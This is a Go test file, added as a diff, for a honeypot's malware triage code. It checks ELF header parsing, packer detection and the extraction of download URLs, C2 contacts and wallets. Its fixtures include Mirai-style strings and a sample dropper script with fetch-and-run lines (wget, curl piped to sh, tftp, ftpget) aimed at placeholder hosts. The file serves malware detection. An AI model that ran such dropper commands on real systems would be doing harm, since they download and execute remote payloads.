@@ -0,0 +1,136 @@
+package middleware
+
+import (
+	"bytes"
+	"encoding/binary"
+	"io/ioutil"
+	"os"
+	"strings"
+	"testing"
+	"time"
+)
+
+// testELF returns a 32-bit little endian ARM executable with the content as its .text section.
+func testELF(text []byte) []byte {
+	names := []byte("\x00.text\x00.shstrtab\x00")
+	textOffset := uint32(52)
+	namesOffset := textOffset + uint32(len(text))
+	sectionOffset := namesOffset + uint32(len(names))
+
+	var buffer bytes.Buffer
+	buffer.Write([]byte{0x7f, 'E', 'L', 'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0})
+	_ = binary.Write(&buffer, binary.LittleEndian, []uint16{2, 40})
+	_ = binary.Write(&buffer, binary.LittleEndian, []uint32{1, 0x8000, 0, sectionOffset, 0})
+	_ = binary.Write(&buffer, binary.LittleEndian, []uint16{52, 32, 0, 40, 3, 2})
+	buffer.Write(text)
+	buffer.Write(names)
+
+	sections := [][]uint32{
+		make([]uint32, 10),
+		{1, uint32(1), 6, 0x8000, textOffset, uint32(len(text)), 0, 0, 4, 0}, // .text, progbits, alloc and exec
+		{7, uint32(3), 0, 0, namesOffset, uint32(len(names)), 0, 0, 1, 0},    // .shstrtab, strtab
+	}
+	for _, section := range sections {
+		_ = binary.Write(&buffer, binary.LittleEndian, section)
+	}
+	return buffer.Bytes()
+}
+
+func TestTriageELF(t *testing.T) {
+	text := []byte("\x00\x01GET /bins/mirai.arm7 HTTP/1.0\x00\x02http://203.0.113.5/bins/mirai.arm7\x00" +
+		"cnc 198.51.100.9\x00version 1.2.3.4.5\x00private 10.0.0.1\x00" +
+		"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa\x001A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb\x00" +
+		"cd /tmp; busybox tftp -g -r arm7 198.51.100.9 69\x00")
+	report := TriageFile("/tmp/.x", testELF(text))
+
+	if report.Format != TriageELF || report.Arch != "arm" || report.Bits != 32 || report.Endian != "little" || !report.Static || !report.Stripped || report.Error != "" {
+		t.Errorf("elf headers not match\nexpected: static stripped 32-bit arm, actual: %+v", report)
+	}
+	if len(report.Sections) != 2 || report.Sections[0].Name != ".text" || report.Sections[0].Size != int64(len(text)) || report.Sections[0].Entropy == 0 {
+		t.Errorf("sections not match\nexpected: .text and .shstrtab, actual: %+v", report.Sections)
+	}
+	if report.Packer != "" {
+		t.Errorf("packer not match\nexpected: none, actual: %s", report.Packer)
+	}
+
+	expected := "tftp://198.51.100.9:69/arm7, http://203.0.113.5/bins/mirai.arm7, 203.0.113.5, 198.51.100.9"
+	if actual := strings.Join(report.Contacts(), ", "); actual != expected {
+		t.Errorf("contacts not match\nexpected: %s, actual: %s", expected, actual)
+	}
+	if strings.Join(report.Wallets, ",") != "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa" {
+		t.Errorf("wallets not match\nexpected: 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa, actual: %v", report.Wallets)
+	}
+
+	packed := TriageFile("/tmp/.y", append(testELF([]byte("\x00\x00\x00\x00")), []byte("UPX!\x0d\x0c")...))
+	if packed.Packer != "UPX" {
+		t.Errorf("packer not match\nexpected: UPX, actual: %s", packed.Packer)
+	}
+
+	broken := TriageFile("/tmp/.z", []byte("MZ\x90\x00truncated"))
+	if broken.Format != TriagePE || broken.Error == "" {
+		t.Errorf("truncated binary not reported\nactual: %+v", broken)
+	}
+}
+
+func TestTriageScript(t *testing.T) {
+	script := `#!/bin/sh
+cd /tmp || cd /var/run; wget http://203.0.113.5/bins/x86 -O .x; chmod +x .x; ./.x
+/bin/busybox wget -q 203.0.113.5/bins.sh && sh bins.sh
+curl -s -A "Mozilla" -O http://evil.example.com/a.sh | sh
+tftp 198.51.100.7 -c get mips mips.bin
+ftpget -v -u anonymous -p anonymous -P 2121 198.51.100.7 arm7 bins/arm7
+wget http://$SERVER/bins/x86
+echo 0x52908400098527886E0F7030069857D2E4169EE7 > wallet
+`
+	report := TriageFile("/tmp/dropper.sh", []byte(script))
+	if report.Format != TriageScript || report.FileType != "sh script" {
+		t.Errorf("script type not match\nexpected: sh script, actual: %s %s", report.Format, report.FileType)
+	}
+
+	var actual []string
+	for _, download := range report.Downloads {
+		actual = append(actual, download.Tool+" "+download.URL+" "+download.Output)
+	}
+	expected := []string{
+		"wget http://203.0.113.5/bins/x86 .x",
+		"wget http://203.0.113.5/bins.sh ",
+		"curl http://evil.example.com/a.sh a.sh",
+		"tftp tftp://198.51.100.7/mips mips.bin",
+		"ftpget ftp://198.51.100.7:2121/bins/arm7 arm7",
+	}
+	if strings.Join(actual, "\n") != strings.Join(expected, "\n") {
+		t.Errorf("downloads not match\nexpected: %s, actual: %s", strings.Join(expected, "; "), strings.Join(actual, "; "))
+	}
+	if strings.Join(report.Wallets, ",") != "0x52908400098527886E0F7030069857D2E4169EE7" {
+		t.Errorf("wallets not match\nexpected: ethereum address, actual: %v", report.Wallets)
+	}
+
+	manifest := Manifest{Pot: "ssh", StartedAt: time.Unix(1600000000, 0), Triage: []Triage{report}}
+	set := NewIndicatorSet()
+	for _, indicator := range TriageIndicators(manifest) {
+		set.Add(indicator)
+	}
+	roles := make(map[string]string)
+	for _, indicator := range set.Indicators() {
+		roles[indicator.Value] = indicator.Role
+	}
+	if roles["http://evil.example.com/a.sh"] != "download" || roles["203.0.113.5"] != "embedded" || roles["tftp://198.51.100.7/mips"] != "download" {
+		t.Errorf("triage indicators not match\nactual: %v", roles)
+	}
+}
+
+func TestTriageRun(t *testing.T) {
+	dir, err := ioutil.TempDir("", "triage")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	reports, err := TriageRun(writeTestRun(t, dir), false, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(reports) != 1 || reports[0].Path != "/tmp/x" || reports[0].Format != TriageText {
+		t.Errorf("run triage not match\nexpected: text /tmp/x, actual: %+v", reports)
+	}
+}